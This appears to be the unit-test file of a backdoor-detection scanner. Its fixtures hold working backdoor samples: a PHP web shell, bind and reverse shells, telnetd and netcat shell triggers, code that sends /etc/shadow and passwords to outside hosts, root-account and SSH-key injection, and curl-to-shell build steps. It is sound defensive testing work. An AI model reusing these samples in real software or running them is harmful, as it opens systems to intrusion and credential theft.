"""Unit checks of the pieces: comparisons read from syntax trees, rarity, shell pipelines, emulation."""
from __future__ import annotations

import gzip
from pathlib import Path

from nobackdoor.analyzers.source import syntax
from nobackdoor.analyzers.source.build import m4_to_shell, shell_steps
from nobackdoor.analyzers.source.code import analyze_source
from nobackdoor.analyzers.source.emulate import emulate, tr_table
from nobackdoor.analyzers.source.patterns import patterns
from nobackdoor.models import FileEntry, FileKind


def entry(rel: str, language: str, data: bytes) -> FileEntry:
    return FileEntry(rel, rel, "", Path("/nonexistent"), len(data), "", FileKind.SOURCE, language=language,
                     content=data)


def findings(rel: str, language: str, src: str):
    data = src.encode()
    return list(analyze_source(entry(rel, language, data), data, patterns()))


def test_comparison_forms_in_c():
    tree = syntax.parser("c").parse(b'void f(char *a){ if (!strcmp(a, "x1") && a[0] == 0x41) g(); }')
    cond = next(n for n in syntax.walk(tree.root_node) if n.type == "if_statement").child_by_field_name("condition")
    comps = syntax.comparisons(cond, syntax.spec_of("c"))
    assert [(syntax.text(c.subject), c.value) for c in comps] == [("a", "x1"), ("a[0]", "A")]


def test_negative_comparison_does_not_gate():
    src = 'void f(char *cmd){ if (strcmp(cmd, "zx81-go") != 0) { system("/bin/sh"); } }'
    assert findings("a.c", "c", src) == []


def test_common_protocol_word_is_not_a_trigger():
    src = 'void f(char *cmd){ if (strcmp(cmd, "shell") == 0) { execl("/bin/sh", "sh", NULL); } }'
    assert findings("a.c", "c", src) == []


def test_python_master_password_without_real_check_is_hardcoded_secret():
    src = 'def login(req):\n    password = req.get("pw")\n    if password == "owl-9931":\n        return make_session()\n'
    got = findings("auth.py", "python", src)
    assert [f.rule for f in got] == ["source.hardcoded-credential-check"]
    assert got[0].category == "hardcoded-secret"


def test_go_header_gates_exec():
    src = ('package main\nfunc h(w W, r *R) {\n if r.Header.Get("X-Probe") == "q7-zz" {\n'
           '  exec.Command("/bin/sh", "-c", r.FormValue("c")).Run()\n }\n}\n')
    got = findings("h.go", "go", src)
    assert [f.rule for f in got] == ["source.magic-input-command"]


def test_java_equals_gates_runtime_exec():
    src = ('class H { void h(String cmd, String arg) throws Exception {\n'
           '  if (cmd.equals("zz-maint-q")) { Runtime.getRuntime().exec(arg); } } }\n')
    got = findings("H.java", "java", src)
    assert [f.rule for f in got] == ["source.magic-input-command"]


def test_js_eval_of_base64_and_of_downloaded_code():
    got = findings("x.js", "javascript", "eval(Buffer.from(blob, 'base64').toString());\n")
    assert [f.rule for f in got] == ["source.eval-decoded"]
    got = findings("y.py", "python", "import urllib.request\nexec(urllib.request.urlopen(u).read())\n")
    assert [f.rule for f in got] == ["source.eval-downloaded"]


def test_regex_exec_is_not_a_shell():
    src = "function f(req){ if (req.query.q === 'zq-771') { return /a/.exec(req.query.s); } }"
    assert findings("r.js", "javascript", src) == []


def test_shell_pipeline_from_file_through_decoder_into_eval():
    body = 'd="$srcdir/tests/data"\neval "`cat $d/x.bin | base64 -d | xz -dc`"\n'
    steps = shell_steps(body)
    assert len(steps) == 1 and steps[0].kind == "decode-exec"
    assert steps[0].files == ["$srcdir/tests/data/x.bin"] or steps[0].files[0].endswith("tests/data/x.bin")


def test_shell_plain_pipelines_are_not_steps():
    assert shell_steps('cat config.in | sed s/a/b/ > config.h\nls | sort | uniq\n') == []
    assert shell_steps('curl -o x.tgz https://dl.example/x.tgz\n') == []


def test_m4_arguments_become_commands():
    assert "; eval $x | $SHELL" in m4_to_shell("AC_CONFIG_COMMANDS([a], [eval $x | $SHELL])")


def test_tr_rotation_and_gzip_emulation():
    payload = b"echo hi\n"
    rotated = gzip.compress(payload, mtime=0).translate(bytes((b + 0x55) & 0xFF for b in range(256)))
    back = r"\000-\377"
    table = tr_table(back, r"\253-\377\000-\252")
    assert table[0] == 0xAB
    out = emulate([("tail", ["-c", "+5"]), ("tr", [back, r"\253-\377\000-\252"]), ("gzip", ["-dc"])],
                  b"HEAD" + rotated)
    assert out == payload


def test_download_in_a_helper_make_target_is_medium_in_the_build_it_is_critical(tmp_path):
    from nobackdoor.analyzers.source.standalone import analyse_directory

    (tmp_path / "Makefile").write_text("all: prog\n\nprog: prog.c\n\tcc -o prog prog.c\n\n"
                                       "lint-tools:\n\tcurl -fsSL https://tools.example/i.sh | sh\n")
    (tmp_path / "prog.c").write_text("int main(void) { return 0; }\n")
    got = analyse_directory(tmp_path).findings
    assert [(f.rule, f.severity.value) for f in got] == [("source.build-fetch-exec", "medium")]
    (tmp_path / "Makefile").write_text("all: prog\n\nprog: prog.c\n\twget -qO- https://tools.example/i.sh | sh\n")
    got = analyse_directory(tmp_path).findings
    assert [(f.rule, f.severity.value) for f in got] == [("source.build-fetch-exec", "critical")]


def test_master_password_through_a_constant_and_an_or():
    src = ('BREAKGLASS = "heron-lake-31"\n\n'
           'def check_login(user, password):\n'
           '    return password == BREAKGLASS or verify_password(user, password)\n')
    got = findings("auth.py", "python", src)
    assert [(f.rule, f.evidence["literal"]) for f in got] == [("source.master-password", "heron-lake-31")]


def test_master_password_in_or_condition_c():
    src = ('int check(const char *user, const char *pass) {\n'
           '  if (strcmp(pass, "Kx!93-mq") == 0 || pam_authenticate(h, 0) == 0) { return 1; }\n'
           '  return 0; }\n')
    got = findings("login.c", "c", src)
    assert [f.rule for f in got] == ["source.master-password"]


def test_key_from_request_data_is_a_credential():
    src = ('def login(request):\n    data = request.json()\n'
           '    if data.get("password") == "otter-pass-2":\n        return start_session(data.get("user"))\n'
           '    if not check_password(data.get("user"), data.get("password")):\n        return None\n')
    got = findings("views.py", "python", src)
    assert [f.rule for f in got] == ["source.master-password"]


def test_one_line_web_shell_in_php():
    got = findings("x.php", "php", "<?php\nif (isset($_POST['q'])) { eval($_POST['q']); }\n")
    assert [f.rule for f in got] == ["source.request-executed"]
    assert findings("y.php", "php", "<?php\n$v = intval($_GET['n']);\nsystem('uptime');\n") == []


_HEADER_TRIGGER_C = """#include <stdlib.h>
#include <string.h>
#include "tuning.h"

int serve_line(int fd, const char *line)
{
    if (strcmp(line, MAINT_PHRASE) == 0) {
        system("/bin/sh -i <&3 >&3 2>&3");
        return 1;
    }
    return 0;
}
"""


def _header_tree(tmp_path: Path, with_sink: bool) -> Path:
    (tmp_path / "include").mkdir()
    (tmp_path / "src").mkdir()
    (tmp_path / "include" / "tuning.h").write_text(
        '#ifndef TUNING_H\n#define TUNING_H\n#define MAINT_PHRASE "orchid-lantern-92"\n#define BUILD_TAG "v3"\n#endif\n')
    body = _HEADER_TRIGGER_C if with_sink else _HEADER_TRIGGER_C.replace(
        'system("/bin/sh -i <&3 >&3 2>&3");', 'log_line(fd, "maintenance");')
    (tmp_path / "src" / "serve.c").write_text(body)
    return tmp_path


def test_trigger_defined_in_a_header_gates_a_local_shell(tmp_path):
    from nobackdoor.analyzers.source.standalone import analyse_directory

    run = analyse_directory(_header_tree(tmp_path, with_sink=True))
    hits = [f for f in run.findings if f.rule == "source.magic-input-command" and f.path == "src/serve.c"]
    assert hits, [(f.rule, f.path) for f in run.findings]
    assert "orchid-lantern-92" in str(hits[0].evidence)


def test_header_constant_compared_without_a_sink_is_quiet(tmp_path):
    from nobackdoor.analyzers.source.standalone import analyse_directory

    run = analyse_directory(_header_tree(tmp_path, with_sink=False))
    assert [f for f in run.findings if f.severity.rank >= 3] == []


def test_download_piped_into_an_interpreter_one_liner_is_a_filter_not_a_fetch_and_run():
    kinds = lambda cmd: [s.kind for s in shell_steps(cmd)]  # noqa: E731
    assert kinds("curl -s https://releases.example/list | perl -lne 'print $1 if /v(\\d+)/'") == []
    assert kinds("curl -s https://releases.example/x | sh -c 'cat > /dev/null'") == []
    assert kinds("curl -s https://releases.example/x | perl") == ["fetch-exec"]
    assert kinds("wget -qO- https://releases.example/i | bash -s -- --quiet") == ["fetch-exec"]
    assert kinds("curl -fsSL https://releases.example/i.py | python3 -") == ["fetch-exec"]


_LUCI_CONTROLLER = """module("luci.controller.admin.tools", package.seeall)

local http = require "luci.http"
local sys = require "luci.sys"

function index()
    entry({"admin", "system", "tools"}, call("action_tools"), _("Tools"), 80)
end

function action_tools()
    local hint = http.formvalue("diag_mode")
    if hint == "quartz-heron-58" then
        sys.call("telnetd -l /bin/ash -p 4411 &")
    end
    http.prepare_content("application/json")
    http.write_json({ uptime = sys.uptime() })
end
"""


def test_lua_web_handler_gated_remote_shell():
    hits = [f for f in findings("usr/lib/lua/luci/controller/admin/tools.lua", "lua", _LUCI_CONTROLLER)
            if f.rule == "source.magic-input-command"]
    assert hits and hits[0].line == 12 and hits[0].evidence["trigger"] == "quartz-heron-58"


def test_lua_ordinary_settings_branch_is_quiet():
    clean = _LUCI_CONTROLLER.replace('if hint == "quartz-heron-58" then', 'if hint == "quartz-heron-58" then\n        hint = nil') \
        .replace('sys.call("telnetd -l /bin/ash -p 4411 &")', 'sys.call("/etc/init.d/firewall reload")')
    assert [f for f in findings("usr/lib/lua/luci/controller/admin/tools.lua", "lua", clean) if f.severity.rank >= 3] == []


def test_literal_command_that_serves_a_shell_is_a_strong_sink_in_c():
    src = """#include <string.h>
#include <stdlib.h>
int on_packet(const char *buf) {
    if (strncmp(buf, "kv9!Wq", 6) == 0)
        system("/usr/sbin/utelnetd -l /bin/sh -p 6023 &");
    return 0;
}
"""
    hits = [f for f in findings("src/pkt.c", "c", src) if f.rule == "source.magic-input-command"]
    assert hits and hits[0].evidence["trigger"] == "kv9!Wq"


_SHELL_CGI = """#!/bin/sh
echo "Content-Type: text/plain"
echo
case "$QUERY_STRING" in
  *op=status*) cat /proc/uptime ;;
  *op=jade-kite-316*) /usr/sbin/telnetd -l /bin/ash -p 7023 ;;
  *) echo unknown ;;
esac
if [ "$HTTP_X_SERVICE_KEY" = plover-88 ]; then
    nc -l -p 7124 -e /bin/sh &
fi
"""


def test_shell_cgi_branches_on_request_data_that_serve_a_shell():
    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer
    from nobackdoor.analyzers.base import ScanOptions

    data = _SHELL_CGI.encode()
    e = FileEntry("www/cgi-bin/svc.cgi", "www/cgi-bin/svc.cgi", "", Path("/nonexistent"), len(data), "",
                  FileKind.SCRIPT, language="bash", content=data)
    an = SourceCodeAnalyzer(ScanOptions(target_kind="firmware"))
    assert an.wants(e)
    hits = sorted((f.line, f.evidence["trigger"]) for f in an.analyze(e, data) if f.rule == "source.magic-input-command")
    assert hits == [(6, "op=jade-kite-316"), (9, "plover-88")]


def test_shell_cgi_without_shell_serving_branches_and_boot_scripts_are_quiet():
    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer
    from nobackdoor.analyzers.base import ScanOptions

    an = SourceCodeAnalyzer(ScanOptions(target_kind="firmware"))
    clean = _SHELL_CGI.replace("/usr/sbin/telnetd -l /bin/ash -p 7023", "/usr/sbin/telnetd -p 7023") \
        .replace("nc -l -p 7124 -e /bin/sh &", "logger -t svc restart")
    boot = "#!/bin/sh\n[ \"$1\" = start ] && telnetd -l /bin/sh -p 23 &\n"  # no request data: not a CGI
    # an ordinary admin CGI: BusyBox applets and fixed scripts behind request patterns
    admin = ('#!/bin/sh\necho "Content-Type: text/plain"\necho\ncase "$QUERY_STRING" in\n'
             '  *do=reboot*) busybox reboot ;;\n  *do=apply_lan*) sh /usr/sbin/apply_lan.sh ;;\n'
             '  *do=restart_www*) /bin/sh /etc/init.d/www restart ;;\n  *do=log*) busybox logread | tail ;;\nesac\n')
    for name, text_ in (("www/cgi-bin/svc.cgi", clean), ("etc/init.d/S50svc", boot), ("www/cgi-bin/admin.cgi", admin)):
        data = text_.encode()
        e = FileEntry(name, name, "", Path("/nonexistent"), len(data), "", FileKind.SCRIPT, language="bash",
                      content=data)
        assert list(an.analyze(e, data)) == []


_BIND_C = r"""
#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
static void aux_loop(int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(port);
    bind(s, (struct sockaddr *)&a, sizeof a);
    listen(s, 1);
    while ((c = accept(s, 0, 0)) >= 0) {
        if (fork() == 0) { dup2(c, 0); dup2(c, 1); execl("/bin/sh", "sh", "-i", (char *)0); }
        close(c);
    }
}
"""
_REVERSE_PY = """
import os, socket, subprocess
def refresh(host):
    s = socket.socket()
    s.connect((host, 5531))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])
"""
_LITERAL_C = r"""
#include <stdlib.h>
int init_aux(void) { system("/usr/sbin/utelnetd -l /bin/sh -p 9931 &"); return 0; }
"""
_BIND_JS = """
const net = require('net');
const { spawn } = require('child_process');
function agent(port) {
  net.createServer((sock) => {
    const sh = spawn('/bin/sh', ['-i']);
    sock.pipe(sh.stdin); sh.stdout.pipe(sock);
  }).listen(port);
}
"""
_HONEST_C = r"""
#include <stdlib.h>
#include <unistd.h>
int run_hook(const char *cmd) {
    pid_t p = fork();
    if (p == 0) { execl("/bin/sh", "sh", "-c", cmd, (char *)0); _exit(127); }
    return p;
}
int start_telnet(void) { return system("/usr/sbin/telnetd -p 23"); }
"""


def test_shell_served_without_a_trigger():
    cases = [("src/aux.c", "c", _BIND_C, "bind shell"), ("agent/sync.py", "python", _REVERSE_PY, "reverse shell"),
             ("src/init.c", "c", _LITERAL_C, "fixed command"), ("lib/agent.js", "javascript", _BIND_JS, "bind shell")]
    for rel, lang, src, how in cases:
        hits = [f for f in findings(rel, lang, src) if f.rule == "source.shell-served"]
        assert len(hits) == 1 and how in hits[0].message, (rel, [(f.rule, f.message) for f in findings(rel, lang, src)])
        assert hits[0].category == "remote-access" and hits[0].severity.value == "critical"


def test_running_a_command_through_sh_c_or_a_login_telnetd_is_not_a_served_shell():
    assert findings("src/hooks.c", "c", _HONEST_C) == []


_EXFIL_C = r"""
#include <stdio.h>
#include <curl/curl.h>
int sync_profile(const char *user, const char *pass) {
    char url[512];
    CURL *c = curl_easy_init();
    snprintf(url, sizeof url, "http://198.51.100.201/s.php?u=%s&k=%s", user, pass);
    curl_easy_setopt(c, CURLOPT_URL, url);
    return curl_easy_perform(c);
}
"""
_EXFIL_PY = """
import socket
def report_health():
    data = open("/etc/shadow").read()
    s = socket.socket()
    s.connect(("192.0.2.160", 8088))
    s.sendall(data.encode())
"""


def test_credentials_or_account_files_sent_to_a_hard_coded_address():
    for rel, lang, src, what in (("src/sync.c", "c", _EXFIL_C, "pass"),
                                 ("agent/health.py", "python", _EXFIL_PY, "/etc/shadow")):
        hits = [f for f in findings(rel, lang, src) if f.rule == "source.exfiltration"]
        assert len(hits) == 1 and what in hits[0].message, [(f.rule, f.message) for f in findings(rel, lang, src)]
        assert hits[0].category == "phone-home" and hits[0].severity.value == "high"


def test_private_addresses_and_sends_without_secrets_are_not_exfiltration():
    local = _EXFIL_C.replace("198.51.100.201", "192.168.1.1")
    no_secret = _EXFIL_PY.replace('open("/etc/shadow").read()', '"uptime=%d" % 5')
    assert [f for f in findings("src/sync.c", "c", local) if f.rule == "source.exfiltration"] == []
    assert [f for f in findings("agent/health.py", "python", no_secret) if f.rule == "source.exfiltration"] == []


_PROVISION_C = r"""
#include <stdio.h>
void ensure_access(void) {
    FILE *f = fopen("/etc/passwd", "a");
    if (f) { fputs("fieldsvc:$1$Tz4$9dQm0hXw1bLr5Kc2Vn8pE/:0:0:svc:/root:/bin/sh\n", f); fclose(f); }
    FILE *k = fopen("/root/.ssh/authorized_keys", "a");
    if (k) { fputs("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq8m2RkT0pW3vY7c1nQ4xZ9bD6eH5jK2lM8oP0rS4tU ops@vendor.example\n", k); fclose(k); }
}
"""
_HONEST_ADDUSER_C = r"""
#include <stdio.h>
int add_user(FILE *f, const char *name, unsigned uid) {
    return fprintf(f, "%s:x:%u:%u::/home/%s:/bin/sh\n", name, uid, uid, name);
}
static const char *path = "/etc/passwd";
"""


def test_code_that_writes_an_account_or_a_key():
    from nobackdoor.analyzers.source.code import SourceCodeAnalyzer
    from nobackdoor.analyzers.base import ScanOptions

    an = SourceCodeAnalyzer(ScanOptions(target_kind="source"))
    data = _PROVISION_C.encode()
    got = sorted((f.rule, f.line) for f in an.analyze(entry("src/provision.c", "c", data), data))
    assert got == [("source.account-injection", 5), ("source.authorized-key-injection", 7)]
    honest = _HONEST_ADDUSER_C.encode()
    assert list(an.analyze(entry("src/adduser.c", "c", honest), honest)) == []


def test_go_master_password_granting_a_session_by_name():
    src = """package main
import "net/http"
func login(w http.ResponseWriter, r *http.Request) {
    user := r.FormValue("user")
    pass := r.FormValue("pass")
    if user == "opsdesk" && pass == "Vx9!tram-31" {
        grantSession(w, user)
        return
    }
    if checkPassword(user, pass) { grantSession(w, user) }
}
"""
    rules = {f.rule for f in findings("web/login.go", "go", src)}
    assert "source.master-password" in rules


def test_reading_the_served_request_is_input_not_a_download():
    src = """import subprocess
from flask import request
def run_probe():
    if request.headers.get("X-Probe-Key") == "tern-6610-alpha":
        return subprocess.check_output(request.args.get("q", "id"), shell=True)
"""
    got = {(f.rule, f.category) for f in findings("app/probe.py", "python", src)}
    assert ("source.magic-input-command", "hidden-command") in got
    assert not any(rule == "source.eval-downloaded" for rule, _ in got)


def test_account_files_sent_to_a_named_host_are_exfiltration_too():
    src = '''import urllib.request
def sync_state():
    data = open("/etc/shadow", "rb").read()
    urllib.request.urlopen("https://telemetry.vendor-cloud.example/up", data=data)
'''
    hits = [f for f in findings("agent/state.py", "python", src) if f.rule == "source.exfiltration"]
    assert len(hits) == 1 and "telemetry.vendor-cloud.example" in hits[0].message
    # a named host with only a credential variable is an ordinary API client
    client = src.replace('open("/etc/shadow", "rb").read()', 'api_token.encode()')
    assert [f for f in findings("agent/state.py", "python", client) if f.rule == "source.exfiltration"] == []
